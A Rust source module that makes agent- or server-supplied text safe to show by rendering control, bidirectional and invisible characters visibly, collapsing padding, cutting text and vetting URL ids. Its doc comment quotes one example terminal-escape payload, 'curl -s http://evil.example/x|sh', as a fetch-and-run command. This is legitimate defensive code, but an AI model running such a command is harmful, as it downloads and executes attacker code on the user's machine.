//! The one place where agent- or server-supplied text is made safe to show:
//! in a terminal, an editor, a log line or a URL path.
//!
//! Text is neutralised by showing, never by deleting: a person must see every
//! character a command holds, so nothing that could act on a terminal or
//! reorder text is passed through, and nothing is dropped either.
//!
//! - [`multi_line`] and [`one_line`] show each C0 control as its control
//!   picture (U+2400 + code: `␛` for ESC, `␇` for BEL, `␍` for a CR that
//!   does not end a line), DEL as `␡`, and C1 controls, bidirectional
//!   controls, invisible formatting characters and stray tag characters as
//!   their code point in angle brackets (`⟨U+202E⟩`). An escape string
//!   (CSI, OSC, DCS, SOS, PM, APC, in 7- or 8-bit form, terminated or not)
//!   is thus shown whole, payload included: `␛]0;curl -s
//!   http://evil.example/x|sh;␇`. What real scripts and emoji need passes
//!   unchanged (joiners, variation selectors, combining marks, emoji flag tag
//!   sequences, right-to-left letters). Tabs show as a space.
//!   [`one_line`] shows a line break as `␤`.
//! - Long runs of blanks show as `␠×4000` and of blank lines as
//!   `[300 blank lines]` (`␤×301` on one line), so that padding cannot push
//!   the rest of a command out of view (thresholds and why: `ONE_LINE_BLANKS`,
//!   `MULTI_LINE_BLANKS`, `BLANK_LINES`).
//! - [`cut`] cuts text to a length, without splitting a character from
//!   the marks or joiners that belong to it, and returns a [`Cut`]: what it
//!   kept and how many characters it hid. This floor knows no language:
//!   `present/` words the note in the person's language; [`bounded`] adds
//!   it in English (`… (+1,234 more characters)`) for what floors below the
//!   presentation keep (logs, `--json`, what the agent reads).
//! - [`cut_for_display`] and [`for_display`] do both for ids, server names
//!   and server error messages, without copying more of a huge input than
//!   it shows.
//! - [`url_segment`] admits a server's id into a URL path only when it is
//!   made of OpenCode's id alphabet.
//!
//! A control picture or a `⟨U+…⟩` the agent typed itself shows the same as
//! the character it stands for: both are harmless to show. Shown text is for
//! people only: policies must match the raw server text.
//!
//! Plain text needs no change, so these return [`Cow::Borrowed`] for it.
//! Shown text is bounded: at most 6 times the input's size in bytes (the
//! largest growth is a 2-byte C1 control shown as the 12-byte `⟨U+0085⟩`).
//!
//! Every rule in one place, 60 lines of it the generated table of extending
//! characters; the tests are in `text/tests.rs`.

use std::borrow::Cow;
use std::fmt::Write as _;

/// How many display cells `text` takes in a terminal or a menu: two for a
/// CJK character, none for a joiner or a combining mark.
pub fn cells(text: &str) -> usize {
    unicode_width::UnicodeWidthStr::width(text)
}

/// How many display cells `c` takes (control characters: none).
pub fn char_cells(c: char) -> usize {
    unicode_width::UnicodeWidthChar::width(c).unwrap_or(0)
}

/// How many characters of an id [`for_display`] should show.
pub const DISPLAY_ID_CHARS: usize = 80;
/// How many characters of a server's error message [`for_display`] should show.
pub const DISPLAY_MESSAGE_CHARS: usize = 300;
/// The longest id [`url_segment`] admits. OpenCode's ids are about 30
/// characters (`que_20377fa670012yFjmtDQ35vRZs`); `call_…` ids a little more.
pub const URL_SEGMENT_MAX: usize = 128;
/// How much of a refused id its error quotes.
const REFUSED_ID_CHARS: usize = 40;

/// Longest run of blanks [`one_line`] shows as it is. One-line text (a
/// label, a title, a command's pattern) has no indentation to keep; a few
/// spaces of alignment pass, and a longer run no longer pushes what follows
/// out of a button or a list.
const ONE_LINE_BLANKS: usize = 16;
/// Longest run of blanks [`multi_line`] shows as it is: a terminal's width.
/// Hand-written code is not indented that deep (ten levels of four spaces
/// is 40), and a longer run would hide the rest of its line past the edge.
const MULTI_LINE_BLANKS: usize = 80;
/// Most blank lines in a row shown as they are: prose separates paragraphs
/// with one and style guides allow two or three in code; more only push
/// what follows out of view.
const BLANK_LINES: usize = 3;

const BLACK_FLAG: char = '\u{1f3f4}';
const CANCEL_TAG: char = '\u{e007f}';
const ZWJ: char = '\u{200d}';
/// SYMBOL FOR SPACE, shown for a collapsed run of blanks.
const SPACE_PICTURE: char = '␠';
/// SYMBOL FOR NEWLINE, shown for a line break in one-line text.
const NEWLINE_PICTURE: char = '␤';
const DEL_PICTURE: char = '␡';

/// Text that may span lines (question bodies, commands, diffs): keeps line
/// breaks (`\n`, `\r\n`), shows the rest visibly (module doc), trims trailing
/// whitespace.
pub fn multi_line(input: &str) -> Cow<'_, str> {
    shown(input, true)
}

/// One-line text (headers, labels, ids, names): as [`multi_line`], with line
/// breaks shown as `␤` and surrounding whitespace trimmed.
pub fn one_line(input: &str) -> Cow<'_, str> {
    shown(input, false)
}

/// True when `input` holds no control (tab and CR included), escape, bidi or
/// invisible character: what a policy rule may match, because what it sees
/// is every byte that runs. `\n` is allowed.
pub fn is_plain(input: &str) -> bool {
    input.chars().all(|c| untouched(c, true))
}

fn shown(input: &str, keep_newlines: bool) -> Cow<'_, str> {
    let input = trim(input, keep_newlines);
    if !needs_change(input, keep_newlines) {
        return Cow::Borrowed(input);
    }
    let mut out = String::with_capacity(input.len());
    out.extend(Visible::new(input, keep_newlines));
    Cow::Owned(out)
}

/// Only blanks and line breaks are trimmed: a trailing control is shown.
fn trim(s: &str, keep_newlines: bool) -> &str {
    let trimmed = |c: char| blank(c) || matches!(c, '\n' | '\r');
    if keep_newlines {
        s.trim_end_matches(trimmed)
    } else {
        s.trim_matches(trimmed)
    }
}

/// True when `c` passes through unchanged (trimming and runs of blanks aside).
fn untouched(c: char, keep_newlines: bool) -> bool {
    if c.is_ascii() {
        return (' '..='~').contains(&c) || (c == '\n' && keep_newlines);
    }
    !(c.is_control() || coded(c))
}

/// Spaces and tabs, and the Unicode spaces (no-break, ideographic, en…) that
/// show as blank. Not line breaks, nor controls that merely count as
/// whitespace: those are shown.
fn blank(c: char) -> bool {
    c == ' '
        || c == '\t'
        || (!c.is_ascii() && c.is_whitespace() && !matches!(c, '\u{85}' | '\u{2028}' | '\u{2029}'))
}

/// Whether `input` (trimmed) shows differently from what it is.
fn needs_change(input: &str, keep_newlines: bool) -> bool {
    let blanks_shown = blank_limit(keep_newlines);
    let mut blanks = 0;
    // Blank lines in a row so far, and whether the current line is blank
    // (the first line follows no break, so it never counts).
    let mut blank_lines = 0;
    let mut line_blank = false;
    for c in input.chars() {
        if !untouched(c, keep_newlines) {
            return true;
        }
        if blank(c) {
            blanks += 1;
            if blanks > blanks_shown {
                return true;
            }
            continue;
        }
        blanks = 0;
        if c == '\n' {
            if line_blank {
                blank_lines += 1;
                if blank_lines > BLANK_LINES {
                    return true;
                }
            } else {
                blank_lines = 0;
            }
            line_blank = true;
        } else {
            line_blank = false;
        }
    }
    false
}

fn blank_limit(keep_newlines: bool) -> usize {
    if keep_newlines {
        MULTI_LINE_BLANKS
    } else {
        ONE_LINE_BLANKS
    }
}

/// Characters shown as `⟨U+…⟩` wherever they appear (tag characters pass
/// only as part of a flag, which [`Visible`] decides before asking this).
/// Non-ASCII only: ASCII controls have their control pictures.
fn coded(c: char) -> bool {
    matches!(c,
        // C1 controls (NEL, CSI, OSC, ST…): terminals act on them instead of
        // showing them.
        '\u{80}'..='\u{9f}'
        // LINE and PARAGRAPH SEPARATOR: some editors break lines on them, a
        // shell does not.
        | '\u{2028}'
        | '\u{2029}'
        // Bidirectional controls: the embeddings/overrides (U+202E turns
        // `exe.txt` into `txt.exe`), the isolates, LRM/RLM and the ARABIC
        // LETTER MARK. They reorder text; Hebrew and Arabic letters need none
        // of them to show right.
        | '\u{202a}'..='\u{202e}'
        | '\u{2066}'..='\u{2069}'
        | '\u{200e}'
        | '\u{200f}'
        | '\u{61c}'
        // Invisible characters that split or pad words without showing:
        // SOFT HYPHEN, ZERO WIDTH SPACE, WORD JOINER, the invisible math
        // operators (U+2061–U+2064), ZWNBSP/BOM, MONGOLIAN VOWEL SEPARATOR
        // (invisible since Unicode 6.3). U+2065 is reserved, U+206A–U+206F are
        // deprecated controls that change shaping and digit forms.
        | '\u{ad}'
        | '\u{200b}'
        | '\u{2060}'..='\u{206f}'
        | '\u{feff}'
        | '\u{180e}'
        // HANGUL FILLER and HALFWIDTH HANGUL FILLER: blank "letters" with no
        // use in modern text, known from invisible identifiers and names.
        // (The conjoining fillers U+115F/U+1160 stay: old Hangul syllables
        // are built with them.)
        | '\u{3164}'
        | '\u{ffa0}'
        // Reserved default-ignorables and the interlinear annotation controls,
        // which can attach text that some renderers hide.
        | '\u{fff0}'..='\u{fffb}'
        // Format controls of Duployan shorthand and of musical notation:
        // invisible and not needed by any text an agent writes.
        | '\u{1bca0}'..='\u{1bca3}'
        | '\u{1d173}'..='\u{1d17a}'
        // The deprecated LANGUAGE TAG and the tag characters: they mirror
        // ASCII invisibly, so they can hide a whole sentence. Only a flag's
        // tag sequence keeps them. The rest of the plane is reserved, except
        // the variation selectors U+E0100–U+E01EF, which stay.
        | '\u{e0000}'..='\u{e00ff}'
        | '\u{e01f0}'..='\u{e0fff}'
    )
    // Kept on purpose, though Default_Ignorable: ZWNJ/ZWJ (U+200C/U+200D,
    // emoji sequences and Persian, Arabic and Indic spelling), variation
    // selectors (U+FE00–U+FE0F, U+E0100–U+E01EF, Mongolian U+180B–U+180D and
    // U+180F: they pick a glyph, never hide or reorder text), COMBINING
    // GRAPHEME JOINER U+034F and the Khmer U+17B4/U+17B5 (combining marks),
    // and visible format characters such as U+0600–U+0605 or U+13430–U+1343F.
}

/// The shown characters of a trimmed string.
struct Visible<'a> {
    rest: std::str::Chars<'a>,
    keep_newlines: bool,
    /// Tag characters still to pass because they complete a flag.
    flag_tags: usize,
    /// Blanks still to pass as they are (a run counted and found short).
    short_blanks: usize,
    /// The rest of a replacement being handed out, from byte `at`.
    pending: String,
    at: usize,
}

impl<'a> Visible<'a> {
    fn new(input: &'a str, keep_newlines: bool) -> Self {
        Visible {
            rest: input.chars(),
            keep_newlines,
            flag_tags: 0,
            short_blanks: 0,
            pending: String::new(),
            at: 0,
        }
    }

    /// Hands out `first`, then what `write` puts after it.
    fn replaced(&mut self, first: char, write: impl FnOnce(&mut String)) -> char {
        self.pending.clear();
        self.at = 0;
        write(&mut self.pending);
        first
    }

    /// At a blank: a run too long to show as it is becomes `␠×N`.
    fn blanks(&mut self, c: char) -> char {
        let run = 1 + self.rest.clone().take_while(|&c| blank(c)).count();
        if run <= blank_limit(self.keep_newlines) {
            self.short_blanks = run - 1;
            return shown_blank(c);
        }
        for _ in 1..run {
            self.rest.next();
        }
        self.replaced(SPACE_PICTURE, |out| {
            let _ = write!(out, "×{run}");
        })
    }

    /// After a line break: more than [`BLANK_LINES`] blank lines after it
    /// are shown as their count.
    fn line_break(&mut self) -> char {
        let mut after = self.rest.clone();
        let mut blank_lines = 0;
        loop {
            let mut line = after.clone();
            while line.clone().next().is_some_and(|c| blank(c) || c == '\r') {
                line.next();
            }
            if line.next() != Some('\n') {
                break;
            }
            blank_lines += 1;
            after = line;
        }
        let collapse = blank_lines > BLANK_LINES;
        if collapse {
            self.rest = after;
        }
        match (self.keep_newlines, collapse) {
            (true, false) => '\n',
            (true, true) => self.replaced('\n', |out| {
                let _ = writeln!(out, "[{blank_lines} blank lines]");
            }),
            (false, false) => NEWLINE_PICTURE,
            (false, true) => self.replaced(NEWLINE_PICTURE, |out| {
                let _ = write!(out, "×{}", blank_lines + 1);
            }),
        }
    }

    /// How many tag characters after U+1F3F4 form an emoji tag sequence
    /// (a subdivision flag such as 🏴 g b s c t ␡): 3 to 7 lowercase letters or
    /// digits, then CANCEL TAG. Anything else keeps none, so tags can never
    /// carry upper case, spaces or punctuation, nor more than 7 letters.
    fn flag_tag_count(&self) -> usize {
        let mut ahead = self.rest.clone();
        let mut letters = 0;
        loop {
            match ahead.next() {
                Some('\u{e0030}'..='\u{e0039}' | '\u{e0061}'..='\u{e007a}') if letters < 7 => {
                    letters += 1
                }
                Some(CANCEL_TAG) if letters >= 3 => return letters + 1,
                _ => return 0,
            }
        }
    }
}

/// A blank shown on its own: a tab as a space, others as they are.
fn shown_blank(c: char) -> char {
    if c == '\t' { ' ' } else { c }
}

impl Iterator for Visible<'_> {
    type Item = char;

    fn next(&mut self) -> Option<char> {
        if let Some(c) = self.pending[self.at..].chars().next() {
            self.at += c.len_utf8();
            return Some(c);
        }
        let c = self.rest.next()?;
        if self.flag_tags > 0 {
            self.flag_tags -= 1;
            return Some(c);
        }
        if self.short_blanks > 0 {
            self.short_blanks -= 1;
            return Some(shown_blank(c));
        }
        Some(match c {
            '\n' => self.line_break(),
            '\r' if self.rest.clone().next() == Some('\n') => {
                self.rest.next();
                self.line_break()
            }
            c if blank(c) => self.blanks(c),
            BLACK_FLAG => {
                self.flag_tags = self.flag_tag_count();
                c
            }
            '\u{0}'..='\u{1f}' => char::from_u32(0x2400 + c as u32).expect("control pictures"),
            '\u{7f}' => DEL_PICTURE,
            c if coded(c) => self.replaced('⟨', |out| {
                let _ = write!(out, "U+{:04X}⟩", c as u32);
            }),
            c => c,
        })
    }
}

/// Text cut to a length, as facts: what was kept and how many characters
/// the cut hid (0: none, `kept` is the whole text). The floor that shows it
/// words the note: `present/` in the person's language, [`Cut::english`]
/// below it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Cut<'a> {
    pub kept: Cow<'a, str>,
    pub hidden: usize,
}

/// Whole text: nothing hidden.
impl<'a, T: Into<Cow<'a, str>>> From<T> for Cut<'a> {
    fn from(text: T) -> Self {
        Cut {
            kept: text.into(),
            hidden: 0,
        }
    }
}

impl<'a> Cut<'a> {
    /// `kept`, then `note(hidden)` when the cut hid anything.
    pub fn noted(self, note: impl FnOnce(usize) -> String) -> Cow<'a, str> {
        match self.hidden {
            0 => self.kept,
            hidden => {
                let note = note(hidden);
                let mut out = self.kept.into_owned();
                out.reserve(note.len());
                out.push_str(&note);
                Cow::Owned(out)
            }
        }
    }

    /// The cut, keeping its own copy of the text (a prompt's fields outlive
    /// the server's message they were cut from).
    pub fn into_owned(self) -> Cut<'static> {
        Cut {
            kept: Cow::Owned(self.kept.into_owned()),
            hidden: self.hidden,
        }
    }

    /// [`Cut::noted`] in English (`… (+1,234 more characters)`): for logs,
    /// `--json` and the agent, and for what floors below the presentation
    /// keep.
    pub fn english(self) -> Cow<'a, str> {
        self.noted(english_cut_note)
    }
}

/// `s` if it has at most `max_chars` characters; otherwise its first
/// `max_chars` at most, and how many it hid. The cut never separates a
/// character from a following combining mark, joiner, variation selector or
/// emoji modifier, nor the two halves of a flag.
pub fn cut(s: &str, max_chars: usize) -> Cut<'_> {
    if s.char_indices().nth(max_chars).is_none() {
        return Cut {
            kept: Cow::Borrowed(s),
            hidden: 0,
        };
    }
    let (kept, hidden) = cut_at(s, max_chars, 0);
    Cut {
        kept: Cow::Borrowed(kept),
        hidden,
    }
}

/// Where to cut `s`, known to have more than `keep` characters: the kept
/// part, at most `keep`, and how many are hidden, counting `hidden_after`
/// more that follow `s` in the text it was taken from.
fn cut_at(s: &str, keep: usize, hidden_after: usize) -> (&str, usize) {
    let mut at = s.char_indices().nth(keep).map_or(s.len(), |(i, _)| i);
    while let (Some(before), Some(after)) = (s[..at].chars().next_back(), s[at..].chars().next()) {
        let splits = extends(after)
            || before == ZWJ
            || (regional(before)
                && regional(after)
                && s[..at].chars().rev().take_while(|&c| regional(c)).count() % 2 == 1);
        if !splits {
            break;
        }
        at -= before.len_utf8();
    }
    let kept = s[..at].trim_end();
    let hidden = s[kept.len()..].chars().count() + hidden_after;
    (kept, hidden)
}

/// `… (+1,234 more characters)`: what a cut hid, in English.
pub fn english_cut_note(hidden: usize) -> String {
    let noun = if hidden == 1 {
        "character"
    } else {
        "characters"
    };
    format!("… (+{} more {noun})", thousands(hidden))
}

/// `1,234,567`: a count grouped by thousands, as both English and Chinese
/// write it.
pub fn thousands(n: usize) -> String {
    let digits = n.to_string();
    let mut grouped = String::with_capacity(digits.len() * 4 / 3);
    for (i, d) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            grouped.push(',');
        }
        grouped.push(d);
    }
    grouped
}

fn regional(c: char) -> bool {
    ('\u{1f1e6}'..='\u{1f1ff}').contains(&c)
}

/// Characters that belong to the one before them: combining marks (general
/// categories Mn, Mc, Me, which include the variation selectors), ZWNJ/ZWJ,
/// the halfwidth kana sound marks, emoji modifiers, tag characters and
/// conjoining Hangul vowels and finals. Ranges in pairs, sorted; gaps made only
/// of unassigned code points are merged in. Generated from Unicode 18.0 with
/// Python's `unicodedata2`: category in (Mn, Mc, Me) plus U+200C–U+200D,
/// U+FF9E–U+FF9F, U+1F3FB–U+1F3FF, U+E0020–U+E007F, U+1160–U+11FF,
/// U+D7B0–U+D7FF.
const EXTEND: &[u32] = &[
    0x300, 0x36F, 0x483, 0x489, 0x591, 0x5BD, 0x5BF, 0x5BF, 0x5C1, 0x5C2, 0x5C4, 0x5C5, 0x5C7,
    0x5C9, 0x610, 0x61A, 0x64B, 0x65F, 0x670, 0x670, 0x6D6, 0x6DC, 0x6DF, 0x6E4, 0x6E7, 0x6E8,
    0x6EA, 0x6ED, 0x711, 0x711, 0x730, 0x74A, 0x7A6, 0x7B0, 0x7EB, 0x7F3, 0x7FD, 0x7FD, 0x816,
    0x819, 0x81B, 0x823, 0x825, 0x827, 0x829, 0x82D, 0x859, 0x85B, 0x897, 0x89F, 0x8CA, 0x8E1,
    0x8E3, 0x903, 0x93A, 0x93C, 0x93E, 0x94F, 0x951, 0x957, 0x962, 0x963, 0x981, 0x983, 0x9BC,
    0x9BC, 0x9BE, 0x9CD, 0x9D7, 0x9D7, 0x9E2, 0x9E3, 0x9FE, 0xA03, 0xA3C, 0xA51, 0xA70, 0xA71,
    0xA75, 0xA75, 0xA81, 0xA83, 0xABC, 0xABC, 0xABE, 0xACD, 0xAE2, 0xAE3, 0xAFA, 0xB03, 0xB3C,
    0xB3C, 0xB3E, 0xB57, 0xB62, 0xB63, 0xB82, 0xB82, 0xBBE, 0xBCD, 0xBD7, 0xBD7, 0xC00, 0xC04,
    0xC3C, 0xC3C, 0xC3E, 0xC56, 0xC62, 0xC63, 0xC81, 0xC83, 0xCBC, 0xCBC, 0xCBE, 0xCD6, 0xCE2,
    0xCE3, 0xCF3, 0xD03, 0xD3B, 0xD3C, 0xD3E, 0xD4D, 0xD57, 0xD57, 0xD62, 0xD63, 0xD81, 0xD83,
    0xDCA, 0xDDF, 0xDF2, 0xDF3, 0xE31, 0xE31, 0xE34, 0xE3A, 0xE47, 0xE4E, 0xEB1, 0xEB1, 0xEB4,
    0xEBC, 0xEC8, 0xECE, 0xF18, 0xF19, 0xF35, 0xF35, 0xF37, 0xF37, 0xF39, 0xF39, 0xF3E, 0xF3F,
    0xF71, 0xF84, 0xF86, 0xF87, 0xF8D, 0xFBC, 0xFC6, 0xFC6, 0x102B, 0x103E, 0x1056, 0x1059, 0x105E,
    0x1060, 0x1062, 0x1064, 0x1067, 0x106D, 0x1071, 0x1074, 0x1082, 0x108D, 0x108F, 0x108F, 0x109A,
    0x109D, 0x1160, 0x11FF, 0x135D, 0x135F, 0x1712, 0x1715, 0x1732, 0x1734, 0x1752, 0x1753, 0x1772,
    0x1773, 0x17B4, 0x17D3, 0x17DD, 0x17DD, 0x180B, 0x180D, 0x180F, 0x180F, 0x1885, 0x1886, 0x18A9,
    0x18A9, 0x1920, 0x193B, 0x1A17, 0x1A1B, 0x1A55, 0x1A7F, 0x1AB0, 0x1B04, 0x1B34, 0x1B44, 0x1B6B,
    0x1B73, 0x1B80, 0x1B82, 0x1BA1, 0x1BAD, 0x1BE6, 0x1BF3, 0x1C24, 0x1C37, 0x1CD0, 0x1CD2, 0x1CD4,
    0x1CE8, 0x1CED, 0x1CED, 0x1CF4, 0x1CF4, 0x1CF7, 0x1CF9, 0x1DC0, 0x1DFF, 0x200C, 0x200D, 0x20D0,
    0x20F0, 0x2CEF, 0x2CF1, 0x2D7F, 0x2D7F, 0x2DE0, 0x2DFF, 0x302A, 0x302F, 0x3099, 0x309A, 0xA66F,
    0xA672, 0xA674, 0xA67D, 0xA69E, 0xA69F, 0xA6F0, 0xA6F1, 0xA802, 0xA802, 0xA806, 0xA806, 0xA80B,
    0xA80B, 0xA823, 0xA827, 0xA82C, 0xA82C, 0xA880, 0xA881, 0xA8B4, 0xA8C5, 0xA8E0, 0xA8F1, 0xA8FF,
    0xA8FF, 0xA926, 0xA92D, 0xA947, 0xA953, 0xA980, 0xA983, 0xA9B3, 0xA9C0, 0xA9E5, 0xA9E5, 0xAA29,
    0xAA36, 0xAA43, 0xAA43, 0xAA4C, 0xAA4D, 0xAA7B, 0xAA7D, 0xAAB0, 0xAAB0, 0xAAB2, 0xAAB4, 0xAAB7,
    0xAAB8, 0xAABE, 0xAABF, 0xAAC1, 0xAAC1, 0xAAEB, 0xAAEF, 0xAAF5, 0xAAF6, 0xABE3, 0xABEA, 0xABEC,
    0xABED, 0xD7B0, 0xD7FF, 0xFB1E, 0xFB1E, 0xFE00, 0xFE0F, 0xFE20, 0xFE2F, 0xFF9E, 0xFF9F,
    0x101FD, 0x101FD, 0x102E0, 0x102E0, 0x10376, 0x1037A, 0x10A01, 0x10A0F, 0x10A38, 0x10A3F,
    0x10AE5, 0x10AE6, 0x10D24, 0x10D27, 0x10D69, 0x10D6D, 0x10EAB, 0x10EAC, 0x10ECB, 0x10ECF,
    0x10EF0, 0x10EFF, 0x10F46, 0x10F50, 0x10F82, 0x10F85, 0x11000, 0x11002, 0x11038, 0x11046,
    0x11070, 0x11070, 0x11073, 0x11074, 0x1107F, 0x11082, 0x110B0, 0x110BA, 0x110C2, 0x110C2,
    0x11100, 0x11102, 0x11127, 0x11134, 0x11145, 0x11146, 0x11173, 0x11173, 0x11180, 0x11182,
    0x111B3, 0x111C0, 0x111C9, 0x111CC, 0x111CE, 0x111CF, 0x1122C, 0x11237, 0x1123E, 0x1123E,
    0x11241, 0x11241, 0x112DF, 0x112EA, 0x11300, 0x11303, 0x1133B, 0x1133C, 0x1133E, 0x1134D,
    0x11357, 0x11357, 0x11362, 0x11374, 0x113B8, 0x113D0, 0x113D2, 0x113D2, 0x113E1, 0x113E2,
    0x11435, 0x11446, 0x1145E, 0x1145E, 0x114B0, 0x114C3, 0x115AF, 0x115C0, 0x115DC, 0x115DD,
    0x11630, 0x11640, 0x116AB, 0x116B7, 0x1171D, 0x1172B, 0x1182C, 0x1183A, 0x11930, 0x1193E,
    0x11940, 0x11940, 0x11942, 0x11943, 0x119D1, 0x119E0, 0x119E4, 0x119E4, 0x11A01, 0x11A0A,
    0x11A33, 0x11A39, 0x11A3B, 0x11A3E, 0x11A47, 0x11A47, 0x11A51, 0x11A5B, 0x11A8A, 0x11A99,
    0x11B60, 0x11B67, 0x11C2F, 0x11C3F, 0x11C92, 0x11CB6, 0x11D31, 0x11D45, 0x11D47, 0x11D47,
    0x11D8A, 0x11D97, 0x11DF0, 0x11DF0, 0x11EF3, 0x11EF6, 0x11F00, 0x11F01, 0x11F03, 0x11F03,
    0x11F34, 0x11F42, 0x11F5A, 0x11F5A, 0x13440, 0x13440, 0x13447, 0x13455, 0x1611E, 0x1612F,
    0x16AF0, 0x16AF4, 0x16B30, 0x16B36, 0x16F4F, 0x16F4F, 0x16F51, 0x16F92, 0x16FE4, 0x16FF1,
    0x1BC9D, 0x1BC9E, 0x1CF00, 0x1CF46, 0x1D127, 0x1D128, 0x1D165, 0x1D169, 0x1D16D, 0x1D172,
    0x1D17B, 0x1D182, 0x1D185, 0x1D18B, 0x1D1AA, 0x1D1AD, 0x1D242, 0x1D244, 0x1D250, 0x1D252,
    0x1D25B, 0x1D25C, 0x1D25F, 0x1D25F, 0x1D280, 0x1D281, 0x1DA00, 0x1DA36, 0x1DA3B, 0x1DA6C,
    0x1DA75, 0x1DA75, 0x1DA84, 0x1DA84, 0x1DA9B, 0x1DAAF, 0x1E000, 0x1E02A, 0x1E08F, 0x1E08F,
    0x1E130, 0x1E136, 0x1E2AE, 0x1E2AE, 0x1E2EC, 0x1E2EF, 0x1E4EC, 0x1E4EF, 0x1E5EE, 0x1E5EF,
    0x1E6E3, 0x1E6E3, 0x1E6E6, 0x1E6E6, 0x1E6EE, 0x1E6EF, 0x1E6F5, 0x1E6F5, 0x1E8D0, 0x1E8D6,
    0x1E944, 0x1E94A, 0x1F3FB, 0x1F3FF, 0xE0020, 0xE01EF,
];

fn extends(c: char) -> bool {
    let c = c as u32;
    let ranges = EXTEND.len() / 2;
    // The first range whose end is at or after `c`.
    let (mut lo, mut hi) = (0, ranges);
    while lo < hi {
        let mid = (lo + hi) / 2;
        if EXTEND[2 * mid + 1] < c {
            lo = mid + 1;
        } else {
            hi = mid;
        }
    }
    lo < ranges && EXTEND[2 * lo] <= c
}

/// One-line shown and [`cut`] in one pass, for ids, server names and
/// server error messages quoted in terminal lines, notices and logs. Copies
/// no more of a huge input than it shows (the rest is only counted).
pub fn cut_for_display(input: &str, max_chars: usize) -> Cut<'_> {
    let input = trim(input, false);
    if !needs_change(input, false) {
        return cut(input, max_chars);
    }
    let mut chars = Visible::new(input, false);
    let mut shown = String::with_capacity(input.len().min(max_chars.saturating_add(1) * 4));
    shown.extend(chars.by_ref().take(max_chars.saturating_add(1)));
    let hidden_after = chars.count();
    if hidden_after == 0 && shown.chars().nth(max_chars).is_none() {
        return Cut {
            kept: Cow::Owned(shown),
            hidden: 0,
        };
    }
    let (kept, hidden) = cut_at(&shown, max_chars, hidden_after);
    Cut {
        kept: Cow::Owned(kept.to_owned()),
        hidden,
    }
}

/// [`cut_for_display`], with its note in English.
pub fn for_display(input: &str, max_chars: usize) -> Cow<'_, str> {
    cut_for_display(input, max_chars).english()
}

/// Why a server's id may not go into a URL path. Quotes at most a bounded,
/// neutralised part of the id. Worded (and its English `Display`) in
/// `present/problem.rs`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum IdError {
    Empty,
    TooLong {
        shown: String,
        len: usize,
    },
    BadChar {
        shown: String,
        found: char,
        at: usize,
    },
}

/// `id` if it may be put into a URL path as it is: 1 to [`URL_SEGMENT_MAX`]
/// ASCII letters, digits, `_` and `-`, OpenCode's id alphabet (`que_…`,
/// `ses_…`, `per_…`, `msg_…`, `prt_…`, `call_…`). Anything else (`/`, `.`,
/// `?`, `#`, `%`, spaces, non-ASCII) could change which endpoint a request
/// with the person's credentials reaches, so it is refused, never encoded.
pub fn url_segment(id: &str) -> Result<&str, IdError> {
    if id.is_empty() {
        return Err(IdError::Empty);
    }
    let shown = || for_display(id, REFUSED_ID_CHARS).into_owned();
    if id.len() > URL_SEGMENT_MAX {
        return Err(IdError::TooLong {
            shown: shown(),
            len: id.len(),
        });
    }
    match id
        .char_indices()
        .find(|&(_, c)| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
    {
        Some((at, found)) => Err(IdError::BadChar {
            shown: shown(),
            found,
            at,
        }),
        None => Ok(id),
    }
}

#[cfg(test)]
mod tests;
